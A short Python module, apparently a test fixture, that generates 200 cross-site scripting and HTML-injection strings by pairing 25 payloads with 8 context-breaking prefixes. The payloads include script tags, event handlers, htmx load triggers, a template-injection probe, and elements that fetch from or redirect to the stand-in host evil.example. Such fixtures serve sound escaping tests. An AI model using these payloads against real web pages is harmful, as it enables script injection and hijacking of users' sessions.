"""Messages that turn into markup or script wherever text is not kept text."""


def hostile() -> list[str]:
    """Two hundred of them: each after the ends of whatever it might stand in."""
    payloads = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=javascript:alert(1)>",
        "<body onload=alert(1)>",
        "<a href=javascript:alert(1)>bấm</a>",
        "<form action=//evil.example><input name=q>",
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example>",
        "<object data=//evil.example>",
        "<embed src=//evil.example>",
        "<math><mi xlink:href=javascript:alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<button hx-post=/vu/1/dong hx-trigger=load>",
        "<div hx-get=//evil.example hx-trigger=load></div>",
        "<div hx-on:click=alert(1)>",
        "<li id=cuoi hx-swap-oob=true>",
        "<template><script>alert(1)</script></template>",
        "<!--<script>alert(1)</script>-->",
    ]
    ends = ["", "\"'>", "</p></li></ol>", "-->", "]]>", "</textarea></title></style>", "{{7*7}}", "&lt;"]
    return [end + payload for end in ends for payload in payloads]
